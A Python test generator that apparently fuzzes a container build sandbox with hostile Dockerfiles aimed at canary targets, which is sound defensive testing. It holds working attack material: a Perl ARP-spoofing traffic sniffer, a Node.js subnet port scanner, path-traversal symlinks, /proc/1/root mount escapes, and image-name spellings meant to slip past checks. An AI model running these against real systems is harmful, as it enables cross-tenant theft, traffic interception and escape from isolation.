"""Dockerfiles of a hostile tenant, made by a grammar: each reaches for a canary, in a spelling that a check may miss."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from random import Random

BASE = "node:20-bookworm-slim"
LOOT = "/loot"
SNIFFER = r"""use Socket; use strict; socket(my $raw, 17, 3, 768) or do { print "raw: $!\n"; exit };
my @own = split /\./, (split " ", `hostname -I`)[0] || "127.0.0.1";
sub spoof { for my $path (glob "/sys/class/net/*") { my ($name) = $path =~ m!([^/]+)$!; next if $name eq "lo";
  open my $file, "<", "$path/address" or next; chomp(my $mac = <$file>); $mac =~ s/://g; $mac = pack "H12", $mac;
  open $file, "<", "$path/ifindex" or next; my $to = pack "S n i S C C a8", 17, 0x806, <$file> + 0, 0, 0, 6, "\xff" x 6;
  for my $host (1 .. 30) { my $ip = pack "C4", @own[0 .. 2], $host;
    send $raw, "\xff" x 6 . $mac . pack("n n n C C n", 0x806, 1, 0x800, 6, 4, 2) . $mac . $ip . "\xff" x 6 . $ip, 0, $to } } }
my $end = time + 4; my $next = 0;
while (time < $end) { if (time >= $next) { spoof(); $next = time + 1 } my $ready = ""; vec($ready, fileno $raw, 1) = 1;
  next unless select $ready, undef, undef, 0.3; recv $raw, my $heard, 65535, 0; $heard =~ s/[^ -~]+/ /g; print "$heard\n" }"""
"""Perl, which the base image has: gratuitous ARP for every address of the network, then all that arrives in four seconds."""


@dataclass(frozen=True, slots=True)
class Targets:
    """What a build may not reach: another app's image under ``names``, a folder, a port and addresses of the host."""

    names: tuple[str, ...]
    secret: str
    """The file in that image."""
    folder: str
    addresses: tuple[str, ...]
    port: int
    neighbour_port: int


@dataclass(slots=True)
class Made:
    """A Dockerfile with what its context needs. ``links`` are symbolic links of the context."""

    text: str
    files: dict[str, str] = field(default_factory=dict[str, str])
    links: dict[str, str] = field(default_factory=dict[str, str])


class Grammar:
    """``make`` answers another Dockerfile each time; the same ``rng`` and targets give the same ones."""

    def __init__(self, rng: Random, targets: Targets) -> None:
        self._rng, self._t = rng, targets
        self._goals: tuple[Callable[[], str], ...] = (
            self._theft,
            self._theft,
            self._theft,
            self._link,
            self._link,
            self._fetch,
            self._mount,
            self._mount,
            self._network,
            self._sniff,
            self._onbuild,
        )

    def make(self) -> Made:
        goal = self._rng.choice(self._goals)
        text = goal()
        made = Made(self._dressed(text), {"a": "a\n", "Dockerfile.a": "x\n"})
        if self._rng.random() < 0.3:
            made.links = {"link": self._t.folder, "up": "../../../../../../etc"}
        return made

    def _one(self, *words: str) -> str:
        return self._rng.choice(words)

    def _name(self) -> str:
        name = self._one(*self._t.names)
        return name + self._one("", "", "", ":latest")

    def _spelled(self, name: str) -> str:
        """The name as an engine may still read it."""
        cut = self._rng.randrange(1, len(name))
        return self._one(
            name,
            name,
            f'"{name}"',
            f"'{name}'",
            name.upper(),
            name.capitalize(),
            f"{name[:cut]}\\\n{name[cut:]}",
            f"${{X:-{name}}}",
            f'{name[:cut]}"{name[cut:]}"',
            f"docker.io/{name}",
            f"localhost/{name}",
            f"containers-storage:{name}",
        )

    def _from(self, what: str, alias: str = "") -> str:
        keyword = self._one("FROM", "FROM", "from", "From")
        platform = self._one("", "", "", "--platform=linux/amd64 ")
        return f"{keyword} {platform}{what}{self._one(' AS ', ' as ', '  As ') + alias if alias else ''}\n"

    def _print_loot(self) -> str:
        return f"RUN cat {LOOT}* {LOOT}*/* {self._t.secret} 2>/dev/null || true\n"

    def _theft(self) -> str:
        """Another app's image, hidden behind a stage that is called like it."""
        name = self._name()
        steal = self._one(
            f"COPY --from={self._spelled(name)} {self._t.secret} {LOOT}\n",
            f"COPY --from={name} {self._t.secret} {LOOT}\n",
            f"RUN --mount=type=bind,from={self._spelled(name)},target=/m cat /m{self._t.secret}\n",
            f"ADD --from={name} {self._t.secret} {LOOT}\n",
        )
        alias = self._one(name, f'"{name}"', name.upper(), self._spelled(name))
        return self._one(
            self._from(name, name) + self._print_loot(),
            self._from(self._spelled(name), alias) + self._print_loot(),
            self._from(BASE, alias) + "RUN true\n" + self._from(BASE) + steal + self._print_loot(),
            self._from(BASE, "x") + steal + self._print_loot() + self._from("x", alias) + "RUN true\n",
            f"ARG N={name}\n" + self._from(self._one("$N", "${N}", "${N:-x}", "${X:-$N}"), alias) + self._print_loot(),
            self._from(BASE) + f"ENV N={name}\n" + steal.replace(name, "$N") + self._print_loot(),
        )

    def _link(self) -> str:
        """A folder of the host's, by a link in the image and what makes folders through it."""
        made = f"made-{self._rng.randrange(10**6)}"
        link = self._one("/out", "/a/b", "/app")
        before = f"RUN mkdir -p {link.rpartition('/')[0] or '/'} && ln -s {self._t.folder} {link}\n"
        user = self._one("", "USER 1000\n", "USER node\n")
        lines = [
            f"WORKDIR {link}/{made}\n",
            f"VOLUME {link}/{made}\n",
            f"COPY a {link}/{made}\n",
            f"ADD a {link}/{made}/\n",
            f"COPY --chown=1000 a {link}/{made}\n",
            f"ENV W={link}/{made}\nWORKDIR $W\n",
            f'WORKDIR "{link}/{made}"\n',
            f"RUN --mount=type=cache,target={link}/{made} true\n",
            f"RUN --mount=type=tmpfs,target={link}/{made} true\n",
            f"COPY <<E {link}/{made}\nx\nE\n",
        ]
        self._rng.shuffle(lines)
        return self._from(BASE) + before + user + "".join(lines[: self._rng.randrange(1, 4)]) + "RUN pwd\n"

    def _fetch(self) -> str:
        """A port of the host's, which the engine itself asks."""
        place = f"{self._one(*self._t.addresses)}:{self._t.port}"
        url = f"{self._one('http', 'HTTP', 'https')}://{place}/canary"
        return self._one(
            self._from(BASE) + f"ADD {url} {LOOT}\n" + self._print_loot(),
            self._from(BASE) + f"ENV U={url}\nADD $U {LOOT}\n" + self._print_loot(),
            self._from(BASE) + f'ADD ["{url}", "{LOOT}"]\n' + self._print_loot(),
            self._from(BASE) + f"ADD {url[:7]}\\\n{url[7:]} {LOOT}\n" + self._print_loot(),
            self._from(BASE) + f"ADD git://{place}/x.git {LOOT}\n" + self._print_loot(),
            self._from(f"{place}/x"),
            self._from(f"{place}/x", "x") + self._from("x"),
            self._from(f'"{place}/x"'),
            self._from(BASE) + f"COPY --from={place}/x / {LOOT}\n",
        )

    def _mount(self) -> str:
        """A folder of the host's, by a mount's source or target."""
        source = self._one(self._t.folder, "/", "link", "up", "../..", "./link", "/proc/1/root", "/store", "/bases")
        kind = self._one("bind", "Bind", "cache", "tmpfs", "secret", "ssh")
        flags = [f"type={kind}", f"{self._one('source', 'src')}={source}", f"{self._one('target', 'dst', 'destination')}=/m"]
        flags += self._rng.sample(
            ["rw", "rw=true", "readonly=false", "id=../../x", "from=" + self._name(), "sharing=locked"], 2
        )
        self._rng.shuffle(flags)
        flag = self._one("--mount", "--MOUNT", "--mount ") + "=" + ",".join(flags)
        script = f"ls -la /m; touch /m/made-{self._rng.randrange(10**6)}; cat /m{self._t.secret} /m/canary"
        return self._from(BASE) + f"RUN {flag} {script}; true\n"

    def _network(self) -> str:
        """The host's ports and the neighbour's, from a step."""
        scan = (
            "const n=require('net'),o=require('os');const a=process.argv.slice(2);"
            "for(const i of Object.values(o.networkInterfaces()).flat())if(i.family=='IPv4'&&!i.internal)"
            "for(let h=1;h<32;h++)a.push(i.address.replace(/[0-9]+$/,h));"
            "for(const h of a)for(const p of [PORTS]){const s=n.connect({host:h,port:p,timeout:1500});"
            "s.on('data',d=>console.log(String(d)));s.on('error',()=>{});s.on('timeout',()=>s.destroy());"
            "s.on('connect',()=>s.write('GET /canary HTTP/1.0\\r\\n\\r\\n'))}"
        ).replace("PORTS", f"{self._t.port},{self._t.neighbour_port}")
        flag = self._one("", "", "--network=host ", "--network=default ", "--security=insecure ", "--network=container:1 ")
        return self._from(BASE) + f'RUN {flag}["node","-e",{_json(scan)},{",".join(_json(a) for a in self._t.addresses)}]\n'

    def _sniff(self) -> str:
        """The neighbour's traffic, heard by a raw socket that tells all neighbours to send it here."""
        flag = self._one("", "", "--network=host ", "--network=default ", "--security=insecure ")
        return self._from(BASE) + f'RUN {flag}["perl","-e",{_json(SNIFFER)}]\n'

    def _onbuild(self) -> str:
        """What this file refuses, as a trigger of a stage that the next one stands on."""
        inner = self._rng.choice((self._theft, self._link, self._fetch))().splitlines(keepends=True)
        triggers = "".join(f"{self._one('ONBUILD', 'onbuild')} {line}" for line in inner[1:] if "\\" not in line)
        return self._from(BASE, "x") + triggers + self._from("x") + self._print_loot()

    def _dressed(self, text: str) -> str:
        """The text with what engines read differently around it."""
        head = self._one(
            "", "", "", "# escape=`\n", "#escape = \\\n", "\ufeff", "# syntax=docker/dockerfile:1\n", "\n# x\n", "ARG X\n"
        )
        if self._rng.random() < 0.2:
            lines = text.splitlines(keepends=True)
            lines.insert(
                self._rng.randrange(1, len(lines) + 1), self._one("# FROM x\n", "\n", "   # c\n", "LABEL a=b \\\n # c\n c=d\n")
            )
            text = "".join(lines)
        return head + (text.replace("\n", "\r\n") if self._rng.random() < 0.05 else text)


def _json(text: str) -> str:

    return json.dumps(text)
